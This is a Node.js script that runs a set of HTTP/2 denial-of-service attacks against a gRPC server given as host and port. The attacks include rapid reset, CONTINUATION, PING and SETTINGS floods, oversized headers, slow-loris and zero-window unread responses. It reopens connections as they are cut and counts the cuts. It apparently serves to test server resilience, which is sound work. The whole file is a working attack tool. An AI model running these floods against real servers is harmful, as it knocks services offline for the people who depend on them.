// @ts-check
// `attack.mjs NAME HOST:PORT PATH`: attacks a gRPC server until it is ended, over a few connections that are made again when
// they are cut, or told to end. Prints how often that was when it ends.
import { connect } from 'node:net';
import { flags, frame, frameReader, headerBlock, preface, requestHeaders, types } from './frames.mjs';

const [name = '', address = '', path = ''] = process.argv.slice(2);
const [host = '', port = ''] = address.split(':');
const request = requestHeaders(path);
const everyMs = 5;

/**
 * What a connection sends each few milliseconds: so much that a server which does all it is asked to is kept busy.
 *
 * @type {Readonly<Record<string, { connections: number, turn: (stream: () => number, turn: number) => Buffer[], reads?: boolean }>>}
 */
const attacks = {
  'rapid reset': { connections: 4, turn: (stream) => resets(25, stream) },
  'rapid reset, as fast as it is read': { connections: 4, turn: (stream) => resets(400, stream) },
  'CONTINUATION flood': {
    connections: 4,
    turn: (_, turn) =>
      turn === 0
        ? [frame(types.headers, 0, 1, request)]
        : repeat(50, () => [frame(types.continuation, 0, 1, headerBlock([['x', 'y'.repeat(50)]]))]),
  },
  'PING flood': { connections: 4, turn: () => repeat(50, () => [frame(types.ping, 0, 0, Buffer.alloc(8))]) },
  'PING flood, answers unread': {
    connections: 4,
    turn: () => repeat(50, () => [frame(types.ping, 0, 0, Buffer.alloc(8))]),
    reads: false,
  },
  'SETTINGS flood': { connections: 4, turn: () => repeat(50, () => [frame(types.settings, 0, 0)]) },
  'header flood': {
    connections: 4,
    turn: (stream) => {
      const block = Buffer.concat([request, headerBlock([['x-large', 'x'.repeat(15_000)]])]);
      return repeat(2, () => [frame(types.headers, flags.endHeaders | flags.endStream, stream(), block)]);
    },
  },
  'empty DATA flood': {
    connections: 4,
    turn: (_, turn) =>
      turn === 0 ? [frame(types.headers, flags.endHeaders, 1, request)] : repeat(50, () => [frame(types.data, 0, 1)]),
  },
  'slow-loris': {
    connections: 200,
    turn: (stream, turn) => {
      if (turn === 0) return repeat(50, () => [frame(types.headers, flags.endHeaders, stream(), request)]);
      // A byte of a body each second.
      return turn % 200 === 0 ? [frame(types.data, 0, 1 + 2 * (turn / 200), Buffer.of(0))] : [];
    },
  },
  'half of a header': {
    connections: 200,
    turn: (_, turn) => (turn === 0 ? [frame(types.headers, 0, 1, request)] : []),
  },
  'answers unread': {
    connections: 20,
    turn: (stream, turn) =>
      turn === 0
        ? // SETTINGS_INITIAL_WINDOW_SIZE 0
          [frame(types.settings, 0, 0, Buffer.of(0, 4, 0, 0, 0, 0))]
        : turn % 20 === 0
          ? repeat(5, () => {
              const id = stream();
              const body = Buffer.alloc(5);
              return [
                frame(types.headers, flags.endHeaders, id, request),
                frame(types.data, flags.endStream, id, body),
              ];
            })
          : [],
  },
};

let cut = 0;
const attack = attacks[name];
if (attack === undefined) throw new Error(`no attack ${name}`);
for (let nth = 0; nth < attack.connections; nth++) open(attack);
process.on('SIGTERM', () => {
  process.stdout.write(`${cut}\n`, () => process.exit(0));
});

/** @param {typeof attacks[string]} attack */
function open(attack) {
  const socket = connect({ host, port: Number(port) });
  let stream = -1;
  let turn = 0;
  const next = () => (stream += 2);
  socket.on('error', () => undefined);
  socket.on('connect', () => socket.write(preface));
  if (attack.reads ?? true) {
    const read = frameReader((type) => {
      if (type === types.goaway) socket.destroy();
    });
    socket.on('data', read);
  } else {
    socket.pause();
  }
  const timer = setInterval(() => {
    if (socket.connecting || socket.writableNeedDrain) return;
    const frames = attack.turn(next, turn++);
    if (frames.length > 0) socket.write(Buffer.concat(frames));
  }, everyMs);
  socket.on('close', () => {
    clearInterval(timer);
    cut++;
    setTimeout(() => open(attack), 50);
  });
}

/**
 * @param {number} times
 * @param {() => number} stream
 * @returns {Buffer[]} calls that are left as soon as they are made
 */
function resets(times, stream) {
  return repeat(times, () => {
    const id = stream();
    return [frame(types.headers, flags.endHeaders, id, request), frame(types.reset, 0, id, Buffer.of(0, 0, 0, 8))];
  });
}

/**
 * @param {number} times
 * @param {() => Buffer[]} make
 * @returns {Buffer[]}
 */
function repeat(times, make) {
  return Array.from({ length: times }, make).flat();
}
